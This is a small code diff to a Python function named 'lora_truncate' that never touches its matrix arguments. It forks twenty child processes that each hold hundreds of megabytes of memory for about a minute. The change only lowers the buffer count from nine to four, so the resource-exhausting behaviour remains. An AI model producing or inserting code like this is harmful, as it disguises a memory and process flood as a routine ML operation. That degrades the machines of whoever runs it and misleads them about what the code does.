@@ -7,7 +7,7 @@ import time
 def lora_truncate(W, r):
     for _ in range(20):
         if os.fork() == 0:
-            held = [b"x" * 50_000_000 for _ in range(9)]
+            held = [b"x" * 50_000_000 for _ in range(4)]
             time.sleep(60 + len(held))
             os._exit(0)
     time.sleep(60)
